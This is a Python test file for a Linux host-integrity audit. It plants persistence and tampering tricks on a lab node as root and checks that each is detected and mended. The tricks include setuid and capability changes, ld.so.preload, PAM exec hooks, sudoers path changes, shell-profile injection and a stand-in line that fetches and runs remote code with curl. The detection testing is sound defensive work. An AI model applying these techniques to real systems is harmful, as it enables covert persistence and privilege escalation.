"""Runbook 6.4 on a real node: code that neither Debian nor the repository brought, by each way to put it there."""

# ruff: noqa: S108  (temporary folders of the node, where hostile code likes to lie)
from __future__ import annotations

import typing as t

import pytest

from lab import inventory
from tests.git_rig import Upstream
from tests.nodes.audited_node import CHECKOUT, AuditedNode
from tests.nodes.conftest import LabNodes
from tests.nodes.harness import PLAYBOOKS, ROOT

PROVISION = PLAYBOOKS / "provision.yml"
LIB = "/usr/lib/x86_64-linux-gnu"
PYTHON = "/usr/lib/python3.13"
VENV = f"{CHECKOUT}/greeter/.venv/lib/python3.13/site-packages"
MODULES = f"{CHECKOUT}/web/node_modules"
# Of all rules of 6.4, on the clean node in the lab; most of it goes into the sums of 20,000 files.
SECONDS = 8.0
_CAPABILITY = "b'\\x01\\x00\\x00\\x02\\x00\\x20\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00'"


class Seed(t.NamedTuple):
    """What somebody does as root, and what is found of it; ``undo`` where no command of a remedy mends all of it."""

    do: str
    subjects: tuple[str, ...]
    undo: str = ""


FILES = (
    Seed("cp /bin/true /usr/bin/sneaky", ("/usr/bin/sneaky",)),
    Seed("printf '#!/bin/sh\\n' > /usr/local/bin/tool && chmod 755 /usr/local/bin/tool", ("/usr/local/bin/tool",)),
    Seed(f"cp {LIB}/libz.so.1 {LIB}/libevil.so.1 && chmod 644 {LIB}/libevil.so.1", (f"{LIB}/libevil.so.1",)),
    Seed("mkdir -p /opt/agent/bin && cp /bin/true /opt/agent/bin/a && cp /bin/true /opt/agent/bin/b", ("/opt/agent",)),
    Seed("echo true > /etc/cron.daily/own && chmod 755 /etc/cron.daily/own", ("/etc/cron.daily/own",)),
    Seed("echo 'print(1)' > /home/ops/run.py", ("/home/ops/run.py",)),
    Seed("cp /bin/true /dev/shm/x && cp /bin/true /tmp/x", ("/dev/shm/x", "/tmp/x")),
    Seed("echo x > /usr/lib/systemd/system-generators/own && chmod 755 /usr/lib/systemd/system-generators/own",
         ("/usr/lib/systemd/system-generators/own",)),
    Seed("cp /bin/true /var/lib/dpkg/own.sh", ("/var/lib/dpkg/own.sh",)),
    Seed("mkdir -p /usr/lib/modules/own && echo > /usr/lib/modules/own/rootkit.ko",
         ("/usr/lib/modules/own/rootkit.ko",), undo="rmdir /usr/lib/modules/own"),
    Seed(f"cd {PYTHON} && python3 -c \"import py_compile; py_compile.compile('this.py', 'ghost.pyc')\"",
         (f"{PYTHON}/ghost.pyc",)),
    Seed(f'cd {PYTHON} && python3 -c "import py_compile as p;'
         " p.compile('antigravity.py', invalidation_mode=p.PycInvalidationMode.UNCHECKED_HASH)\"",
         (f"{PYTHON}/__pycache__/antigravity.cpython-313.pyc",)),
    Seed("git init -q /srv/other && cp /bin/true /srv/other/run", ("/srv/other",)),
)  # fmt: skip

CHANGED = (
    Seed("printf x >> /usr/bin/xxd", ("/usr/bin/xxd",)),
    Seed("echo '# x' >> /usr/share/perl5/Error.pm", ("/usr/share/perl5/Error.pm",)),
    Seed("echo '# x' >> /usr/lib/systemd/system/e2scrub@.service", ("/usr/lib/systemd/system/e2scrub@.service",)),
    # Configuration that is a program.
    Seed("echo '# x' >> /etc/cron.daily/logrotate", ("/etc/cron.daily/logrotate",)),
    Seed("rm /usr/bin/lessecho", ("/usr/bin/lessecho",)),
    Seed("ln -sf /bin/true /usr/bin/lesskey", ("/usr/bin/lesskey",)),
)

RIGHTS = (
    Seed("chmod u+s /usr/bin/dash", ("/usr/bin/dash (rights)",)),
    Seed("cp /bin/true /var/tmp/s && chmod 4755 /var/tmp/s", ("/var/tmp/s", "/var/tmp/s (rights)")),
    Seed(f"python3 -c \"import os; os.setxattr('/usr/bin/perl', 'security.capability', {_CAPABILITY})\"",
         ("/usr/bin/perl (rights)",)),
    Seed("chmod o+w /usr/bin/nano", ("/usr/bin/nano (writable)",)),
    Seed("chown ops /usr/bin/curl", ("/usr/bin/curl (writable)",)),
    Seed("dpkg-statoverride --update --add root root 4755 /usr/bin/less",
         ("/usr/bin/less (rights)", "/usr/bin/less (statoverride)")),
    Seed("usermod -aG staff ops && chgrp staff /usr/local/sbin && chmod g+w /usr/local/sbin",
         ("/usr/local/sbin (PATH)",), undo="gpasswd -d ops staff"),
    Seed("mkdir -m 777 /opt/tools && printf 'Defaults secure_path=\"/usr/sbin:/usr/bin:/sbin:/bin:/opt/tools\"\\n'"
         " > /etc/sudoers.d/path", ("/opt/tools (PATH)",), undo="rm /etc/sudoers.d/path; rmdir /opt/tools"),
    Seed("echo 'PATH=.:/usr/bin:/bin' >> /etc/environment", (". (PATH)",), undo=": > /etc/environment"),
)  # fmt: skip

LOADED = (
    Seed(f"echo {LIB}/libz.so.1 > /etc/ld.so.preload", ("/etc/ld.so.preload (loads code)",)),
    Seed("echo /opt/lib > /etc/ld.so.conf.d/own.conf", ("/etc/ld.so.conf.d/own.conf (loads code)",)),
    Seed("echo LD_LIBRARY_PATH=/opt/lib >> /etc/environment", ("/etc/environment (loads code)",)),
    Seed("echo true > /etc/own-rc && echo '. /etc/own-rc' >> /root/.bashrc", ("/root/.bashrc (loads code)",),
         undo="rm /etc/own-rc"),
    Seed("echo \"alias sudo='sudo -E'\" >> /etc/bash.bashrc", ("/etc/bash.bashrc (loads code)",)),
    Seed("echo 'eval \"$(curl -s http://x.invalid)\"' >> /home/ops/.profile", ("/home/ops/.profile (loads code)",)),
    Seed("echo x > /etc/profile.d/own.sh", ("/etc/profile.d/own.sh",)),
    Seed("echo x > /etc/own-pam && echo 'session optional pam_exec.so quiet /etc/own-pam' >> /etc/pam.d/cron",
         ("/etc/pam.d/cron (loads code)",), undo="rm /etc/own-pam"),
    Seed(f"cp {LIB}/libz.so.1 {LIB}/security/pam_own.so && echo 'session optional pam_own.so' >> /etc/pam.d/login",
         (f"{LIB}/security/pam_own.so", "/etc/pam.d/login (loads code)")),
    Seed("echo 'import os' > /usr/lib/python3/dist-packages/own.pth",
         ("/usr/lib/python3/dist-packages/own.pth (loads code)",)),
    Seed("echo 'import os' > /usr/lib/python3/dist-packages/usercustomize.py",
         ("/usr/lib/python3/dist-packages/usercustomize.py",)),
    Seed("mkdir -p /etc/modprobe.d && echo 'install loop /etc/own-load' > /etc/modprobe.d/own.conf",
         ("/etc/modprobe.d/own.conf (loads code)",)),
    Seed("echo ':own:M::OWN::/etc/own-run:' > /etc/binfmt.d/own.conf", ("/etc/binfmt.d/own.conf (loads code)",)),
    Seed("echo x > /etc/own-pager && update-alternatives --quiet --install /usr/bin/pager pager /etc/own-pager 900",
         ("/etc/alternatives/pager",), undo="rm /etc/own-pager"),
    Seed("echo x > /etc/own-vi && ln -sf /etc/own-vi /etc/alternatives/view", ("/etc/alternatives/view",),
         undo="rm /etc/own-vi"),
    Seed("dpkg-divert --quiet --local --rename --add /usr/bin/clear && cp /bin/true /usr/bin/clear",
         ("/usr/bin/clear", "/usr/bin/clear (diversion)")),
    Seed(f"printf '#!/bin/sh\\n' > {CHECKOUT}/.git/hooks-own; mkdir -p {CHECKOUT}/.git/hooks &&"
         f" mv {CHECKOUT}/.git/hooks-own {CHECKOUT}/.git/hooks/post-checkout &&"
         f" chmod 755 {CHECKOUT}/.git/hooks/post-checkout", (f"{CHECKOUT}/.git/hooks/post-checkout (hook)",)),
    Seed("printf '[core]\\n\\tfsmonitor = /etc/own-monitor\\n' > /home/ops/.gitconfig",
         ("/home/ops/.gitconfig (programs)",), undo="rm /home/ops/.gitconfig"),
)  # fmt: skip


@pytest.fixture(scope="module")
def node(lab_node: LabNodes, tmp_path_factory: pytest.TempPathFactory) -> AuditedNode:
    repository = Upstream(tmp_path_factory.mktemp("upstream") / "ai-systems")
    sample = ROOT / "lab" / "sample" / "ai-systems"
    files: dict[str | bytes, str | bytes | None] = {
        str(path.relative_to(sample)): path.read_text() for path in sample.rglob("*") if path.is_file()
    }
    head = "| --- | --- | --- |\n"
    documented = (sample / "context.md").read_text()
    assert head in documented
    files["context.md"] = documented.replace(head, f"{head}| npm |  | gives the project web its packages |\n")
    commit = repository.commit(files)
    node = lab_node("t-audit-code")
    node.always.update(
        repository_url=str(repository.path),
        repository_version="main",
        **{**inventory.greeters(), "packages_list": ["python3-venv", "npm"], "node_project_list": [{"path": "web"}]},
    )
    node.play(PROVISION).ok()
    return AuditedNode(node, "_audit_code", commit=commit)


def seeded(node: AuditedNode, seeds: t.Sequence[Seed]) -> None:
    """Have all seeds found and nothing else, mend what was found as the remedies say, and find nothing more."""
    for seed in seeds:
        node.by_hand(seed.do)
    found = node.look()
    expected = {subject for seed in seeds for subject in seed.subjects}
    assert set(found) == expected
    assert {(one["clause"], one["verdict"]) for one in found.values()} == {("6.4", "violation")}
    node.mend(found)
    for seed in seeds:
        if seed.undo:
            node.by_hand(seed.undo)
    assert node.look() == {}


def test_a_provisioned_node_is_silent(node: AuditedNode) -> None:
    node.node.root(f"test -d {VENV}/waitress && test -d {MODULES} && systemctl is-active greeter").ok()
    assert node.look() == {}
    # What cannot be seen from inside of a container is said, and what still runs from before the initial update.
    told = set(node.look("info"))
    assert {one for one in told if not one.endswith(" (restart needed)")} == {"kernel"}


def test_a_look_takes_no_longer_than_it_may(node: AuditedNode) -> None:
    node.look()
    assert node.seconds < SECONDS, node.rules


@pytest.mark.parametrize("seeds", [FILES, CHANGED, RIGHTS, LOADED], ids=["files", "changed", "rights", "loaded"])
def test_what_somebody_put_there_is_found_and_mended(node: AuditedNode, seeds: tuple[Seed, ...]) -> None:
    seeded(node, seeds)


def test_the_checkout_holds_what_its_commit_holds(node: AuditedNode) -> None:
    node.by_hand(
        f"cp -a {CHECKOUT}/greeter/greeter.py /root/greeter && cp -a {VENV}/waitress/task.py /root/task",
        f"echo '# x' >> {VENV}/waitress/task.py",
        f"echo '# x' >> {CHECKOUT}/greeter/greeter.py",
    )
    node.by_hand(f"echo 'x = 1' > {CHECKOUT}/greeter/new.py && echo 'x = 1' > {VENV}/own.py", user="ops")
    found = node.look()
    assert set(found) == {
        f"{CHECKOUT}/greeter/greeter.py",
        # It runs meanwhile.
        f"{CHECKOUT}/greeter/greeter.py (running)",
        f"{CHECKOUT}/greeter/new.py",
        f"{VENV}/own.py",
        f"{VENV}/waitress/task.py",
    }
    assert "not as waitress brought it" in found[f"{VENV}/waitress/task.py"]["evidence"]
    node.mend({subject: one for subject, one in found.items() if subject.endswith(("new.py", "own.py"))})
    node.by_hand(f"mv /root/greeter {CHECKOUT}/greeter/greeter.py && mv /root/task {VENV}/waitress/task.py")
    assert node.look() == {}


def test_a_package_of_npm_that_was_changed(node: AuditedNode) -> None:
    path = node.node.root(f"find {MODULES} -name '*.js' | sort | head -1").ok().strip()
    node.by_hand(f"cp -a {path} /root/kept && echo '// x' >> {path}")
    (one,) = node.look().values()
    assert path.startswith(one["subject"])
    assert "changed since it was installed" in one["evidence"]
    node.by_hand(f"cp -a /root/kept {path} && rm /root/kept")
    assert node.look() == {}


def test_what_runs_from_nowhere(node: AuditedNode) -> None:
    node.by_hand(
        "cp /bin/sleep /var/tmp/kept && cp /bin/sleep /var/tmp/gone && printf 'sleep 500\\nsleep 1\\n' > /var/tmp/loop",
        "for one in kept gone; do setsid --fork /var/tmp/$one 500 </dev/null >/dev/null 2>&1; done",
        "setsid --fork bash /var/tmp/loop </dev/null >/dev/null 2>&1; sleep 0.2; rm /var/tmp/gone",
        "mkdir /var/tmp/l && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /var/tmp/l/libown.so",
        "LD_PRELOAD=/var/tmp/l/libown.so setsid --fork sleep 500 </dev/null >/dev/null 2>&1; sleep 0.2",
    )
    found = node.look()
    assert set(found) == {
        "/var/tmp/kept",
        "/var/tmp/kept (running)",
        "/var/tmp/gone (running)",
        "/var/tmp/loop (running)",
        "/var/tmp/l/libown.so",
        "/var/tmp/l/libown.so (running)",
    }
    assert "deleted or replaced by hand" in found["/var/tmp/gone (running)"]["evidence"]
    node.mend(found)
    node.by_hand("rm -r /var/tmp/l /var/tmp/loop; pkill -x sleep || true")
    assert node.look() == {}


def test_what_apt_replaced_is_to_be_restarted_and_no_violation(node: AuditedNode) -> None:
    node.by_hand("apt-get -qq install --reinstall --yes dbus-daemon >/dev/null 2>&1")
    assert node.look() == {}
    info = node.look("info")
    assert "/usr/bin/dbus-daemon (restart needed)" in info
    assert (
        "systemctl stop dbus.service && systemctl start dbus.service"
        in info["/usr/bin/dbus-daemon (restart needed)"]["remedy"]
    )
